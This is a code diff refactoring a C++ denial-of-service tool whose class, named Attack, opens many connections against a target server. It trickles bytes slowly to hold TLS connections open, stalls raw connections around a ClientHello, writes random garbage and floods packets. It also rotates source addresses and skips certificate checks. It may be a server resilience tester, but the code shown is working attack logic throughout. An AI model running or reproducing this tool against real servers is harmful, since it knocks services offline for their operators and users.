@@ -147,20 +147,14 @@ class Attack {
  public:
   explicit Attack(const Options& o)
       : o_(o),
-        io_(1),
-        tls_(ssl::context::tls_client),
-        sources_(o.bind),
-        opening_(io_, o.concurrency > 0 ? o.concurrency : 64),
+        net_(o.host, o.port, "", o.bind),  // an attacker verifies nothing
+        opening_(net_.io, o.concurrency > 0 ? o.concurrency : 64),
         filler_(std::max<size_t>(o.trickle_bytes, 1), 'A'),
         header_(TrickleHeader(o.trickle_announce)),
         flood_packet_(FloodPacket(o.flood_packet)) {
-    ConfigureClientTls(tls_, "");  // an attacker verifies nothing
-    client_hello_ = MakeClientHello(tls_);
+    client_hello_ = MakeClientHello(net_.tls);
     std::mt19937 random(14);
     for (size_t i = 0; i < kGarbageBytes; ++i) garbage_.push_back(static_cast<uint8_t>(random()));
-    boost::system::error_code ec;
-    endpoint_ = tcp::endpoint(asio::ip::make_address(o_.host, ec), o_.port);
-    if (ec) Die("--host must be an IP address: " + o_.host);
   }
 
   int Main() {
@@ -171,14 +165,14 @@ class Attack {
     for (int i = 0; i < o_.garbage; ++i) Spawn(Garbage());
     for (int i = 0; i < o_.flood; ++i) Spawn(Flood());
     Spawn(Timeline());
-    asio::steady_timer end(io_, deadline_);
+    asio::steady_timer end(net_.io, deadline_);
     end.async_wait([this](boost::system::error_code) {
       std::cout << Report() << std::endl;
       // Thousands of connections and coroutines are still open: the kernel closes them
       // faster than unwinding each would.
       std::_Exit(0);
     });
-    io_.run();
+    net_.io.run();
     return 1;
   }
 
@@ -193,20 +187,30 @@ class Attack {
     }
   }
 
-  // Connects `link` (TLS if it has it) holding an opening slot; false if it failed.
-  awaitable<bool> Open(Link& link, Counts& counts, const char* where) {
+  // A connection to hold open (TLS with `tls`), opened holding one of the opening slots;
+  // null, after the back-off, if that failed.
+  awaitable<std::shared_ptr<Link>> OpenHeld(Counts& counts, Backoff& backoff, ssl::context* tls,
+                                            const char* where) {
+    auto link = std::make_shared<Link>(net_.io, tls);
     co_await opening_.Acquire();
     bool ok = false;
     try {
-      CloseAfter timeout(io_, link.conn, kStepTimeoutSeconds);
-      co_await link.conn.Connect(endpoint_, sources_.Next());
+      CloseAfter timeout(net_.io, link->conn, kStepTimeoutSeconds);
+      co_await link->conn.Connect(net_.endpoint, net_.sources.Next());
       ok = true;
     } catch (const std::exception& e) {
-      ++counts.failed;
       Note(where, e);
     }
     opening_.Release();
-    co_return ok;
+    if (!ok) {
+      ++counts.failed;
+      link->conn.Abort();
+      co_await backoff.Wait();
+      co_return nullptr;
+    }
+    backoff.Reset();
+    counts.Opened();
+    co_return link;
   }
 
   // Reads the raw socket until the server closes it (or the attack ends with the process).
@@ -223,14 +227,8 @@ class Attack {
   awaitable<void> Trickle() {
     Backoff backoff;
     while (Running()) {
-      auto link = std::make_shared<Link>(io_, &tls_);
-      if (!co_await Open(*link, trickle_, "trickle")) {
-        link->conn.Abort();
-        co_await backoff.Wait();
-        continue;
-      }
-      backoff.Reset();
-      trickle_.Opened();
+      auto link = co_await OpenHeld(trickle_, backoff, &net_.tls, "trickle");
+      if (!link) continue;
       if (ramp_s_ < 0 && trickle_.open_now >= o_.trickle) ramp_s_ = SecondsSince(start_);
       Spawn(WatchClose(link));
       try {
@@ -259,14 +257,9 @@ class Attack {
   awaitable<void> Stall(bool send_hello) {
     Backoff backoff;
     while (Running()) {
-      auto link = std::make_shared<Link>(io_, nullptr);  // raw TCP: we do the TLS bytes
-      if (!co_await Open(*link, stall_, "stall")) {
-        link->conn.Abort();
-        co_await backoff.Wait();
-        continue;
-      }
-      backoff.Reset();
-      stall_.Opened();
+      // Raw TCP: the ClientHello is sent as bytes.
+      auto link = co_await OpenHeld(stall_, backoff, nullptr, "stall");
+      if (!link) continue;
       try {
         if (send_hello) {
           co_await link->conn.Write(client_hello_);
@@ -296,11 +289,11 @@ class Attack {
   awaitable<void> Garbage() {
     Backoff backoff;
     while (Running()) {
-      Conn conn(io_, nullptr);
+      Conn conn(net_.io, nullptr);
       bool connected = false;
       try {
-        CloseAfter timeout(io_, conn, kGarbageTimeoutSeconds);
-        co_await conn.ConnectTcp(endpoint_, sources_.Next());
+        CloseAfter timeout(net_.io, conn, kGarbageTimeoutSeconds);
+        co_await conn.ConnectTcp(net_.endpoint, net_.sources.Next());
         connected = true;
         co_await conn.Write(garbage_);
         garbage_counts_.bytes += garbage_.size();
@@ -318,11 +311,11 @@ class Attack {
     Backoff backoff;
     const bool await_answer = o_.flood_packet == "anonymous";  // a refusal must be read
     while (Running()) {
-      Conn conn(io_, &tls_);
+      Conn conn(net_.io, &net_.tls);
       bool connected = false;
       try {
-        CloseAfter timeout(io_, conn, kStepTimeoutSeconds);
-        co_await conn.Connect(endpoint_, sources_.Next());
+        CloseAfter timeout(net_.io, conn, kStepTimeoutSeconds);
+        co_await conn.Connect(net_.endpoint, net_.sources.Next());
         connected = true;
         if (!flood_packet_.empty()) co_await conn.Write(flood_packet_);
         if (await_answer) co_await conn.ReadPacket();
@@ -344,7 +337,7 @@ class Attack {
 
   template <typename Awaitable>
   void Spawn(Awaitable body) {
-    SpawnOrDie(io_, std::move(body), "attack");
+    SpawnOrDie(net_.io, std::move(body), "attack");
   }
 
   std::string Report() const {
@@ -377,10 +370,7 @@ class Attack {
   }
 
   const Options o_;
-  asio::io_context io_;
-  ssl::context tls_;
-  SourceAddresses sources_;
-  tcp::endpoint endpoint_;
+  Network net_;
   Semaphore opening_;
   const Bytes filler_;
   const Bytes header_;
